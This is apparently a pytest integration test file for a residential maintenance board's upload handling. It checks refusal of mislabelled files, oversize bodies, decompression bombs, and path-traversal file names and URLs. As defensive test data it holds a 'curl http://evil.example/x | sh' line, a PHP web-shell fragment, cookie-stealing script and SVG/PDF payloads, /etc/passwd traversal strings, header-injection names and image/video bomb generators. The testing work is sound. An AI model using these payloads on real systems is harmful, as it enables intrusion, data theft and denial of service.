"""Bad uploads against the board (SPEC §7: bad input of any kind gets a clear error and
loses nothing already accepted): files of the wrong type under a photo's name, oversize
files and bodies, too many files, decompression bombs, and path tricks in file names and
in media URLs, through the API (resident reports, added information, staff result photos,
Open311) and through the web page's report form.

Each refusal must be a 4xx RFC 9457 problem (a page with the problem on the web form),
come quickly and without the process's memory growing by more than a few tens of MB,
store nothing (no file, no row), and leave the report accepted before it untouched.
"""

from __future__ import annotations

import asyncio
import hashlib
import io
import os
import re
import struct
import threading
import time
import uuid
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest
from PIL import Image
from psycopg_pool import ConnectionPool

from services.board.app import create_app
from services.board.deps import COOKIE
from services.board.problems import PROBLEM_JSON
from services.config import BoardOptions, EstateConfig, Settings, load_config
from services.tickets import Role
from tests.integration.board.conftest import (
    ESTATE_FILE,
    Accounts,
    Site,
    add_account,
    jpeg,
)

pytestmark = pytest.mark.integration

MB = 2**20
PHOTO_MAX_MB, VIDEO_MAX_MB = 1, 2  # small caps keep the oversize cases fast
FAST_S = 2.0  # every refusal here happens before any pixel is decoded
MEMORY_MB = 64  # how much a refusal may grow the process (a bomb would take gigabytes)
REPORT = {"category": "lighting", "building": "b3", "area": "stairwell",
          "description": "楼道灯不亮"}
ORIGIN = "http://testserver"


# --- files ------------------------------------------------------------------------------


def _chunk(kind: bytes, data: bytes) -> bytes:
    return (struct.pack(">I", len(data)) + kind + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))


def png(width: int, height: int, idat: bytes, *, depth: int = 8, color: int = 2,
        extra: bytes = b"") -> bytes:
    header = struct.pack(">IIBBBBB", width, height, depth, color, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + extra + _chunk(b"IDAT", idat)
            + _chunk(b"IEND", b""))


def zlib_bomb_png(side: int) -> bytes:
    """A 1-bit PNG of side x side pixels, all zero: a few KB that decode to side² pixels."""
    row = bytes(1 + (side + 7) // 8)  # the filter byte, then the packed bits
    squeeze = zlib.compressobj(9)
    data = b"".join(squeeze.compress(row * 100) for _ in range(side // 100)) + squeeze.flush()
    return png(side, side, data, depth=1, color=0)


def jpeg_declaring(width: int, height: int) -> bytes:
    """A small real JPEG whose frame header claims other dimensions: libjpeg pads what is
    missing, so the file decodes, to width x height pixels."""
    data = bytearray(jpeg(16, 16))
    frame = data.index(b"\xff\xc0")
    data[frame + 5:frame + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def webp_declaring(width: int, height: int) -> bytes:
    """An extended (VP8X) WebP whose canvas is width x height pixels, around a tiny image."""
    out = io.BytesIO()
    Image.new("RGB", (16, 16), "blue").save(out, "WEBP")
    simple = out.getvalue()[12:]  # the VP8 chunk after RIFF....WEBP
    vp8x = b"VP8X" + struct.pack("<I", 10) + bytes(4) \
        + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    body = b"WEBP" + vp8x + simple
    return b"RIFF" + struct.pack("<I", len(body)) + body


def animation(fmt: str, frames: int) -> bytes:
    images = [Image.new("RGB", (16, 16), (i % 256, i // 256, 0)) for i in range(frames)]
    out = io.BytesIO()
    images[0].save(out, fmt, save_all=True, append_images=images[1:], duration=10)
    return out.getvalue()


def ztxt_bomb_png() -> bytes:
    """A 16x16 PNG with a compressed text chunk that inflates to 64 MB."""
    text = zlib.compress(bytes(64 * MB), 9)
    idat = zlib.compress(b"".join(b"\0" + bytes(48) for _ in range(16)))
    return png(16, 16, idat, extra=_chunk(b"zTXt", b"Comment\0\0" + text))


def box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def movie(width: int = 1920, height: int = 1080, *, seconds: int = 5) -> bytes:
    """An MP4 box structure: a movie header and one video track of width x height."""
    mvhd = box(b"mvhd", bytes(12) + struct.pack(">II", 1000, seconds * 1000) + bytes(80))
    tkhd = box(b"tkhd", bytes(76) + struct.pack(">II", width << 16, height << 16))
    hdlr = box(b"hdlr", bytes(8) + b"vide" + bytes(12) + b"\0")
    avc1 = box(b"avc1", bytes(24) + struct.pack(">HH", width, height) + bytes(50))
    stbl = box(b"stbl", box(b"stsd", bytes(4) + struct.pack(">I", 1) + avc1))
    mdia = box(b"mdia", hdlr + box(b"minf", stbl))
    return (box(b"ftyp", b"isom" + bytes(4) + b"isomavc1")
            + box(b"moov", mvhd + box(b"trak", tkhd + mdia)) + box(b"mdat", bytes(512)))


def image_as(fmt: str, **params: Any) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (32, 24), "green").save(out, fmt, **params)
    return out.getvalue()


HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
       b"<script>fetch('/api/auth/me')</script></svg>")
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1))" \
      b" >> >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
ELF = b"\x7fELF\x02\x01\x01\0" + bytes(8) + b"\x02\0\x3e\0" + os.urandom(200)
PE = b"MZ\x90\0" + bytes(56) + b"PE\0\0" + os.urandom(200)
SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
ZIP = b"PK\x03\x04" + bytes(26) + b"evil.sh" + SCRIPT

# (file name, content): none of these is a photo or a video, whatever its name says
WRONG_TYPES: dict[str, tuple[str, bytes]] = {
    "executable": ("photo.jpg", ELF),
    "windows-executable": ("photo.jpg", PE),
    "shell-script": ("photo.jpg", SCRIPT),
    "html": ("photo.jpg", HTML),
    "svg": ("photo.jpg", SVG),
    "svg-named-svg": ("photo.svg", SVG),
    "pdf": ("photo.jpg", PDF),
    "zip": ("photo.jpg", ZIP),
    "gif": ("photo.jpg", image_as("GIF")),
    "bmp": ("photo.jpg", image_as("BMP")),
    "tiff": ("photo.jpg", image_as("TIFF")),
    "html-then-jpeg-polyglot": ("photo.jpg", HTML + jpeg()),
    "pdf-then-jpeg-polyglot": ("photo.jpg", PDF + jpeg()),
    "empty": ("photo.jpg", b""),
    "truncated-jpeg": ("photo.jpg", jpeg(640, 480, color="orange")[:300]),
    "jpeg-magic-only": ("photo.jpg", b"\xff\xd8\xff\xe0"),
    "png-magic-only": ("photo.png", b"\x89PNG\r\n\x1a\n"),
    "png-not-deflate-data": ("photo.png", png(32, 24, b"this is not zlib data at all")),
    "webp-truncated": ("photo.webp", image_as("WEBP")[:30]),
    "video-that-is-html": ("clip.mp4", HTML),
    "video-that-is-a-photo-header": ("clip.mp4", b"\0\0\0\x18ftypisom" + bytes(6)),
    "video-cut-short": ("clip.mp4", movie()[:-100]),
    "video-without-movie-header": ("clip.mp4", box(b"ftyp", b"isom" + bytes(4))
                                   + box(b"mdat", HTML)),
    "video-box-larger-than-file": ("clip.mov", box(b"ftyp", b"qt  " + bytes(4))
                                   + struct.pack(">I", 2**31) + b"moov" + bytes(64)),
    "video-64-bit-box-larger-than-file": ("clip.mp4", box(b"ftyp", b"isom" + bytes(4))
                                          + struct.pack(">I", 1) + b"mdat"
                                          + struct.pack(">Q", 2**62) + bytes(64)),
}

# decompression bombs: each would take far more memory or time to decode than it weighs
BOMBS: dict[str, Callable[[], tuple[str, bytes]]] = {
    "png-header-30000x30000": lambda: ("bomb.png", png(30000, 30000, zlib.compress(bytes(99)))),
    "png-header-4-billion-pixels": lambda: ("bomb.png", png(65535, 65535, b"")),
    "jpeg-header-30000x30000": lambda: ("bomb.jpg", jpeg_declaring(30000, 30000)),
    "jpeg-header-65500x65500": lambda: ("bomb.jpg", jpeg_declaring(65500, 65500)),
    "webp-canvas-16000x16000": lambda: ("bomb.webp", webp_declaring(16000, 16000)),
    # under the pixel limit, but a few KB claiming tens of megapixels is no photo
    "png-zlib-bomb-7000x7000": lambda: ("bomb.png", zlib_bomb_png(7000)),
    "jpeg-padded-to-7000x7000": lambda: ("bomb.jpg", jpeg_declaring(7000, 7000)),
    "png-ztxt-text-bomb": lambda: ("bomb.png", ztxt_bomb_png()),
    "animated-webp-3000-frames": lambda: ("anim.webp", animation("WEBP", 3000)),
    "animated-png-3000-frames": lambda: ("anim.png", animation("PNG", 3000)),
    "animated-gif-3000-frames": lambda: ("anim.gif", animation("GIF", 3000)),
    "video-30000x30000": lambda: ("huge.mp4", movie(30000, 30000)),
    "video-track-header-small-sample-entry-huge": lambda: ("huge.mp4",
                                                           _lying_track_header()),
}


def _lying_track_header() -> bytes:
    """The track header says 1080p, the sample description 65535 x 65535."""
    honest, huge = movie(1920, 1080), movie(65535, 65535)
    start = huge.index(b"avc1") - 4
    return honest[:honest.index(b"avc1") - 4] + huge[start:]


# --- measuring --------------------------------------------------------------------------


def _rss() -> int:
    with open("/proc/self/statm") as statm:
        return int(statm.read().split()[1]) * os.sysconf("SC_PAGE_SIZE")


@dataclass
class Cost:
    seconds: float = 0.0
    peak_growth: int = 0  # bytes of resident memory above what the process held before


@pytest.fixture
def cost() -> Iterator[Callable[[Callable[[], Any]], tuple[Any, Cost]]]:
    """Run a request while sampling the process's resident memory every millisecond
    (Pillow releases the GIL while it decodes, so the sampler sees the peak)."""

    def measure(work: Callable[[], Any]) -> tuple[Any, Cost]:
        baseline, peak, done = _rss(), [0], threading.Event()

        def sample() -> None:
            while not done.is_set():
                peak[0] = max(peak[0], _rss())
                time.sleep(0.001)

        sampler = threading.Thread(target=sample, daemon=True)
        sampler.start()
        start = time.perf_counter()
        try:
            result = work()
        finally:
            elapsed = time.perf_counter() - start
            done.set()
            sampler.join()
        return result, Cost(elapsed, max(0, max(peak[0], _rss()) - baseline))

    yield measure


# --- the board and what it already holds --------------------------------------------------


@pytest.fixture(scope="module")
def estate() -> EstateConfig:
    """The example estate under a site id of this module's own: its tickets, and its
    accounts (bound to the estate they are made for), stay out of other tests' way."""
    base = load_config(ESTATE_FILE)
    site = base.site.model_copy(update={"id": f"bad-{uuid.uuid4().hex[:8]}"})
    return base.model_copy(update={"site": site})


@pytest.fixture(scope="module")
def people(pool: ConnectionPool, estate: EstateConfig) -> Accounts:
    """Two residents and a manager (who uploads result photos like staff; a staff account
    would take one of the estate's few staff numbers, which other tests hold)."""
    made = Accounts()
    for name, role, building in (("resident_a", Role.RESIDENT, "b3"),
                                 ("resident_b", Role.RESIDENT, "b3"),
                                 ("manager", Role.MANAGER, None)):
        made.by_name[name] = add_account(pool, estate, f"bad-{name}", role, building=building)
    return made


@dataclass
class Held:
    """What the board held before the bad input: the files, the rows, one accepted report."""

    site: Site
    ticket_id: int
    photo_url: str
    photo: bytes

    def files(self) -> dict[str, str]:
        root = self.site.data_dir
        return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
                for p in sorted(root.rglob("*")) if p.is_file()}

    def rows(self) -> dict[str, int]:
        site = self.site.board.site
        with self.site.board.pool.connection() as conn:
            tickets, media, history, reports, version = conn.execute(
                "SELECT (SELECT count(*) FROM tickets WHERE site = %(s)s),"
                " (SELECT count(*) FROM media m JOIN tickets t ON t.id = m.ticket_id"
                "   WHERE t.site = %(s)s),"
                " (SELECT count(*) FROM ticket_history h JOIN tickets t ON t.id = h.ticket_id"
                "   WHERE t.site = %(s)s),"
                " (SELECT count(*) FROM ticket_reports r JOIN tickets t ON t.id = r.ticket_id"
                "   WHERE t.site = %(s)s),"
                " (SELECT version FROM tickets WHERE id = %(t)s)",
                {"s": site, "t": self.ticket_id}).fetchone() or (0, 0, 0, 0, 0)
        return {"tickets": tickets, "media": media, "history": history, "reports": reports,
                "version": version}

    def snapshot(self) -> tuple[dict[str, str], dict[str, int]]:
        return self.files(), self.rows()

    def assert_intact(self, before: tuple[dict[str, str], dict[str, int]]) -> None:
        assert self.snapshot() == before, "a refused upload changed what the board holds"
        served = self.site.as_("resident_a").get(self.photo_url)
        assert served.status_code == 200 and served.content == self.photo


@pytest.fixture(scope="module")
def held(pool: ConnectionPool, estate: EstateConfig, people: Accounts,
         tmp_path_factory: pytest.TempPathFactory) -> Iterator[Held]:
    """One board for the module, holding one accepted report with a photo."""
    data_dir = tmp_path_factory.mktemp("bad-uploads") / "data"
    options = BoardOptions(reports_per_hour=10_000, photo_max_mb=PHOTO_MAX_MB,
                           video_max_mb=VIDEO_MAX_MB)
    with Site(create_app(Settings(data_dir=data_dir), estate, pool, options=options),
              people, data_dir) as site:
        created = site.as_("resident_a").post(
            "/api/reports", data=REPORT,
            files=[("media", ("first.jpg", jpeg(), "image/jpeg"))])
        assert created.status_code == 201, created.text
        ticket = created.json()["ticket"]
        [photo] = ticket["photos"]
        served = site.as_("resident_a").get(photo["url"])
        assert served.status_code == 200
        yield Held(site, ticket["id"], photo["url"], served.content)


def problem_of(response: Any, *, slug: str | None = "upload") -> dict[str, Any]:
    """The RFC 9457 problem a refusal must be: 4xx, problem+json, every member present."""
    assert 400 <= response.status_code < 500, (response.status_code, response.text[:300])
    assert response.headers["content-type"] == PROBLEM_JSON, response.headers["content-type"]
    body: dict[str, Any] = response.json()
    assert body["status"] == response.status_code
    assert isinstance(body["title"], str) and body["title"]
    assert isinstance(body["detail"], str) and body["detail"]
    if slug is not None:
        assert body["type"] == f"/problems/{slug}", body
    return body


def send_report(held: Held, files: list[tuple[str, bytes]], *, field: str = "media",
                who: str = "resident_a") -> Any:
    parts = [(field, (name, content, "image/jpeg")) for name, content in files]
    return held.site.as_(who).post("/api/reports", data=REPORT, files=parts)


# --- wrong types ------------------------------------------------------------------------


@pytest.mark.parametrize("case", list(WRONG_TYPES))
def test_a_file_that_is_not_a_photo_or_video_is_refused(held: Held, cost: Any,
                                                        case: str) -> None:
    name, content = WRONG_TYPES[case]
    before = held.snapshot()
    response, spent = cost(lambda: send_report(held, [(name, content)]))
    body = problem_of(response)
    assert response.status_code in (413, 415, 422)
    assert body["errors"][0]["field"] == "media[0]"
    assert spent.seconds < FAST_S and spent.peak_growth < MEMORY_MB * MB, spent
    held.assert_intact(before)


def test_a_photo_with_a_payload_behind_it_is_kept_as_pixels_only(held: Held) -> None:
    """A JPEG first and HTML, a script or a zip after it (a polyglot) is a photo: it is
    accepted, and rebuilt from its pixels, so nothing of the payload is stored or served."""
    for tail in (HTML, ZIP, SVG, b"<?php system($_GET['c']); ?>"):
        created = send_report(held, [("photo.jpg", jpeg(color="purple") + tail)])
        assert created.status_code == 201, created.text
        photo = created.json()["ticket"]["photos"][-1]
        served = held.site.as_("resident_a").get(photo["url"])
        assert served.headers["content-type"] == "image/jpeg"
        assert served.headers["x-content-type-options"] == "nosniff"
        assert tail not in served.content and b"<script" not in served.content
        on_disk = [p for p in held.site.data_dir.rglob("*") if p.is_file()]
        assert all(tail not in p.read_bytes() for p in on_disk)
        Image.open(io.BytesIO(served.content)).verify()


# --- size and count ---------------------------------------------------------------------


def test_files_over_their_cap_are_refused_before_they_are_decoded(held: Held,
                                                                  cost: Any) -> None:
    photo = b"\xff\xd8\xff\xe0" + os.urandom(PHOTO_MAX_MB * MB)  # one cap and 4 bytes
    video = movie() + box(b"free", bytes(VIDEO_MAX_MB * MB))
    for name, content in (("big.jpg", photo), ("big.mp4", video)):
        before = held.snapshot()
        response, spent = cost(lambda c=content, n=name: send_report(held, [(n, c)]))
        body = problem_of(response)
        assert response.status_code == 413 and body["errors"][0]["field"] == "media[0]"
        assert spent.seconds < FAST_S, spent
        held.assert_intact(before)


def test_too_many_files_are_refused(held: Held, cost: Any) -> None:
    before = held.snapshot()
    ten = send_report(held, [(f"p{i}.jpg", jpeg()) for i in range(10)])
    assert ten.status_code == 422 and "at most 9" in problem_of(ten)["detail"]
    # thousands of empty parts: the multipart parser's own limits, still as a problem
    many, spent = cost(lambda: send_report(held, [("p.jpg", b"")] * 3000))
    problem_of(many, slug=None)
    assert spent.seconds < 10 * FAST_S, spent
    fields = {f"f{i}": "x" for i in range(3000)}
    crowded = held.site.as_("resident_a").post("/api/reports", data={**REPORT, **fields},
                                               files=[("media", ("p.jpg", jpeg(), "image/jpeg"))])
    problem_of(crowded, slug=None)
    held.assert_intact(before)


def test_a_body_over_the_limit_is_cut_off_declared_or_streamed(held: Held, cost: Any) -> None:
    limit = held.site.board.options.body_max_bytes
    boundary = "b0undary"
    head = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"media\";"
            f" filename=\"big.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n").encode()
    headers = {"Content-Type": f"multipart/form-data; boundary={boundary}"}

    def stream() -> Iterator[bytes]:  # no Content-Length: chunked, as a client may send
        yield head
        for _ in range(limit // MB + 2):
            yield bytes(MB)

    before = held.snapshot()
    declared, spent = cost(lambda: held.site.as_("resident_a").post(
        "/api/reports", content=head + bytes(limit), headers=headers))
    assert declared.status_code == 413 and problem_of(declared)
    assert spent.seconds < FAST_S, spent
    streamed = held.site.as_("resident_a").post("/api/reports", content=stream(),
                                                headers=headers)
    assert streamed.status_code == 413 and problem_of(streamed)
    held.assert_intact(before)


# --- decompression bombs ----------------------------------------------------------------


@pytest.mark.parametrize("case", list(BOMBS))
def test_a_decompression_bomb_is_refused_quickly_in_little_memory(held: Held, cost: Any,
                                                                  case: str) -> None:
    name, content = BOMBS[case]()
    assert len(content) < 512 * 1024  # each is small: the danger is what it unpacks to
    before = held.snapshot()
    response, spent = cost(lambda: send_report(held, [(name, content)]))
    body = problem_of(response)
    assert response.status_code in (413, 415, 422) and body["errors"][0]["field"] == "media[0]"
    assert spent.seconds < FAST_S and spent.peak_growth < MEMORY_MB * MB, spent
    held.assert_intact(before)


def test_an_honest_large_photo_and_video_are_still_accepted(held: Held) -> None:
    """The bomb checks judge what a file declares against what it weighs: a smooth photo
    of 18 megapixels in a few hundred KB, and a 4K video, go through."""
    gradient = Image.linear_gradient("L").resize((4900, 3675)).convert("RGB")
    out = io.BytesIO()
    gradient.save(out, "JPEG", quality=75)
    assert 18_000_000 / len(out.getvalue()) < 1_000 and len(out.getvalue()) < PHOTO_MAX_MB * MB
    photo = send_report(held, [("big.jpg", out.getvalue())])
    assert photo.status_code == 201, photo.text
    video = send_report(held, [("uhd.mp4", movie(3840, 2160))])
    assert video.status_code == 201, video.text


# --- path tricks ------------------------------------------------------------------------

TRICKY_NAMES: list[bytes] = [
    b"../../../../tmp/sunlight-evil.jpg",
    b"..\\..\\..\\sunlight-evil.jpg",
    b"/etc/cron.d/sunlight-evil.jpg",
    b"C:\\Windows\\System32\\sunlight-evil.jpg",
    b"media/../../sunlight-evil.jpg",
    b"%2e%2e%2f%2e%2e%2fsunlight-evil.jpg",
    b"..%c0%af..%c0%afsunlight-evil.jpg",
    b"photo\x00.jpg.exe",
    b"\x00",
    b"sunlight-evil.jpg\r\nContent-Type: text/html",
    b'photo".jpg',
    b"x" * 250 + b".jpg",
    "photo\u202egpj.exe".encode(),  # right-to-left override: shows as "photoexe.jpg"
    "．．／．．／sunlight-evil.jpg".encode(),  # fullwidth dots and solidus
    "..\u2215..\u2215sunlight-evil.jpg".encode(),  # division slash
    b"con.jpg",
    "照片 🏠.jpg".encode(),
    b"",
]


def raw_multipart(files: list[tuple[bytes, bytes]]) -> tuple[bytes, str]:
    """A multipart body written byte for byte: file names go out exactly as given."""
    boundary = uuid.uuid4().hex
    out = bytearray()
    for name, value in REPORT.items():
        out += (f"--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n"
                f"{value}\r\n").encode()
    for filename, content in files:
        out += (f"--{boundary}\r\nContent-Disposition: form-data; name=\"media\"; "
                "filename=\"").encode() + filename + b"\"\r\nContent-Type: image/jpeg\r\n\r\n"
        out += content + b"\r\n"
    out += f"--{boundary}--\r\n".encode()
    return bytes(out), f"multipart/form-data; boundary={boundary}"


def _outside_targets(data_dir: Path) -> list[Path]:
    return [Path("/tmp/sunlight-evil.jpg"), Path("/etc/cron.d/sunlight-evil.jpg"),
            data_dir.parent / "sunlight-evil.jpg", data_dir / "sunlight-evil.jpg"]


@pytest.mark.parametrize("filename", TRICKY_NAMES, ids=lambda n: n[:40].decode(errors="replace"))
def test_a_file_name_never_decides_where_or_what_is_stored(held: Held, filename: bytes) -> None:
    """The name a client gives is not used at all: a photo under any name is stored under a
    name the board makes, inside its media folder; a non-photo under it is refused."""
    resident = held.site.as_("resident_a")
    before = held.snapshot()
    body, content_type = raw_multipart([(filename, HTML)])
    refused = resident.post("/api/reports", content=body, headers={"Content-Type": content_type})
    problem_of(refused)
    held.assert_intact(before)

    body, content_type = raw_multipart([(filename, jpeg(color="teal"))])
    accepted = resident.post("/api/reports", content=body,
                             headers={"Content-Type": content_type})
    assert accepted.status_code == 201, accepted.text[:300]
    files, _ = held.snapshot()
    added = set(files) - set(before[0])
    [path] = added
    assert Path(path).parent.parent.parent == Path("media")
    assert uuid.UUID(Path(path).stem) and Path(path).suffix == ".jpg"
    assert all(files[p] == before[0][p] for p in before[0])  # nothing overwritten
    assert not any(p.exists() for p in _outside_targets(held.site.data_dir))
    shown = accepted.text
    assert "sunlight-evil" not in shown and "gpj.exe" not in shown


def test_a_file_name_too_long_to_read_is_refused_as_unreadable(held: Held) -> None:
    """A part header over python-multipart's 4 KB cannot be read: the whole request is
    refused (400) before any file is looked at, a photo or not."""
    resident = held.site.as_("resident_a")
    before = held.snapshot()
    for content in (HTML, jpeg()):
        body, content_type = raw_multipart([(b"x" * 60_000 + b".jpg", content)])
        refused = resident.post("/api/reports", content=body,
                                headers={"Content-Type": content_type})
        assert refused.status_code == 400
        problem_of(refused, slug=None)
    held.assert_intact(before)


def _get_raw(site: Site, raw_path: bytes, token: str) -> tuple[int, dict[str, str], bytes]:
    """GET a path exactly as a client wrote it, dots and all (an HTTP client would have
    removed `..` segments first), as uvicorn hands it to the app: on the app's event loop,
    as the test clients' requests."""
    path, _, query = raw_path.partition(b"?")
    scope = {"type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1",
             "method": "GET", "scheme": "http", "root_path": "", "raw_path": path,
             "path": unquote(path.decode("latin-1")), "query_string": query,
             "headers": [(b"host", b"testserver"), (b"authorization", f"Bearer {token}".encode())],
             "client": ("127.0.0.1", 50000), "server": ("testserver", 80)}
    answer: dict[str, Any] = {"body": b""}

    async def run() -> None:
        requested, sent = False, asyncio.Event()

        async def receive() -> dict[str, Any]:
            nonlocal requested
            if not requested:
                requested = True
                return {"type": "http.request", "body": b"", "more_body": False}
            await sent.wait()  # the client hangs up once the answer is complete
            return {"type": "http.disconnect"}

        async def send(message: dict[str, Any]) -> None:
            if message["type"] == "http.response.start":
                answer["status"] = message["status"]
                answer["headers"] = {k.decode().lower(): v.decode()
                                     for k, v in message["headers"]}
            elif message["type"] == "http.response.body":
                answer["body"] += message.get("body", b"")
                if not message.get("more_body", False):
                    sent.set()

        await site.app(scope, receive, send)

    site.clients.call(run)
    return answer["status"], answer["headers"], answer["body"]


def test_media_urls_with_path_tricks_serve_nothing(held: Held, people: Accounts) -> None:
    media_id = held.photo_url.rsplit("/", 1)[1]
    secret = held.site.data_dir.parent / "secret.txt"
    secret.write_text("not for the board to serve")
    ticket = held.ticket_id
    paths = [
        b"/api/media/../../../../etc/passwd",
        b"/api/media/..%2f..%2f..%2fetc%2fpasswd",
        b"/api/media/%2e%2e/%2e%2e/etc/passwd",
        b"/api/media/%252e%252e%252fetc%252fpasswd",
        b"/api/media/..%5c..%5csecret.txt",
        b"/api/media/%2e%2e%2fsecret.txt",
        b"/api/media/%00",
        b"/api/media/" + media_id.encode() + b"%00.jpg",
        b"/api/media/" + media_id.encode() + b"/../../secret.txt",
        b"/api/media/" + media_id.encode() + b"%2f..%2f..%2fsecret.txt",
        b"/api/media/" + media_id.upper().encode() + b"/..",
        b"/api/media/..%c0%af..%c0%afetc/passwd",
        b"/media/../secret.txt",
        b"/media/" + media_id.encode(),
        b"/" + b"../" * 8 + b"etc/passwd",
        b"/api/tickets/%d/evidence/../../secret.txt" % ticket,
        b"/api/tickets/%d/evidence/..%%2f..%%2fsecret.txt" % ticket,
        b"/api/tickets/%d/evidence/%%2e%%2e/%%2e%%2e/secret.txt" % ticket,
        b"/api/tickets/%d/evidence/../media/" % ticket + media_id.encode(),
        b"/api/tickets/%d/evidence//etc/passwd" % ticket,
        b"/api/tickets/%d/evidence/%%00" % ticket,
        b"/api/tickets/%d/evidence/" % ticket + b"a" * 5000,
    ]
    for who in ("resident_a", "manager"):
        token = people[who].token
        for raw in paths:
            status, headers, body = _get_raw(held.site, raw, token)
            assert 400 <= status < 500, (who, raw, status)
            assert headers["content-type"] == PROBLEM_JSON, (raw, headers)
            assert b"root:" not in body and b"not for the board" not in body
    # the photo itself still answers, to its owner only
    assert _get_raw(held.site, f"/api/media/{media_id}".encode(),
                    people["resident_a"].token)[0] == 200
    assert _get_raw(held.site, f"/api/media/{media_id}".encode(),
                    people["resident_b"].token)[0] == 404


# --- every way in: added information, result photos, Open311, the web form ------------------


def test_every_upload_route_refuses_the_same_files(held: Held) -> None:
    bad = [("html.jpg", HTML), ("bomb.png", zlib_bomb_png(7000)),
           ("anim.webp", animation("WEBP", 200)), ("huge.mp4", movie(30000, 30000))]
    resident, manager = held.site.as_("resident_a"), held.site.as_("manager")
    tid = held.ticket_id
    for name, content in bad:
        before = held.snapshot()
        file = (name, content, "image/jpeg")
        info = resident.post(f"/api/reports/{tid}/info", data={"note": "补充"},
                             files=[("media", file)])
        result = manager.post(f"/api/tickets/{tid}/resolve", data={"note": "已修好"},
                               files=[("photos", file)])
        open311 = resident.post("/open311/v2/requests.json",
                                data={"service_code": "lighting", "address_id": "b3/stairwell",
                                      "description": "灯坏了"}, files=[("media", file)])
        for answer, field in ((info, "media[0]"), (result, "photos[0]"), (open311, "media[0]")):
            body = problem_of(answer)
            assert body["errors"][0]["field"] == field, (name, body)
        held.assert_intact(before)


def _report_form(held: Held) -> tuple[Any, dict[str, str]]:
    """A browser on the report form: the session cookie, this site's Origin, and the
    fields the page itself holds (its CSRF token among them)."""
    client = held.site.anon
    client.follow_redirects = False
    client.headers["Origin"] = ORIGIN
    client.cookies.set(COOKIE, held.site.accounts["resident_a"].token)
    page = client.get("/report")
    assert page.status_code == 200, page.status_code
    hidden = dict(re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)"', page.text))
    return client, hidden


@pytest.mark.parametrize("case", ["html", "svg", "empty", "truncated-jpeg",
                                  "video-that-is-html", "png-zlib-bomb-7000x7000",
                                  "jpeg-header-30000x30000", "animated-webp-3000-frames",
                                  "video-30000x30000", "too-many", "too-big"])
def test_the_report_form_shows_the_refusal_as_a_page(held: Held, cost: Any, case: str) -> None:
    if case == "too-many":
        files = [(f"p{i}.jpg", jpeg()) for i in range(10)]
    elif case == "too-big":
        files = [("big.jpg", b"\xff\xd8\xff\xe0" + bytes(PHOTO_MAX_MB * MB))]
    elif case in WRONG_TYPES:
        files = [WRONG_TYPES[case]]
    else:
        files = [BOMBS[case]()]
    browser, hidden = _report_form(held)
    form = {**hidden, "category": "lighting", "place": "b3:stairwell",
            "description": "表单里的描述"}
    before = held.snapshot()
    page, spent = cost(lambda: browser.post(
        "/report", data=form, files=[("media", (n, c, "image/jpeg")) for n, c in files]))
    assert 400 <= page.status_code < 500, page.status_code
    assert page.headers["content-type"].startswith("text/html")
    assert ("上传的文件没有被接受" in page.text or "有内容没有填好" in page.text), page.text[:500]
    assert "表单里的描述" in page.text  # what the resident wrote is kept for the next try
    assert spent.seconds < FAST_S and spent.peak_growth < MEMORY_MB * MB, spent
    held.assert_intact(before)
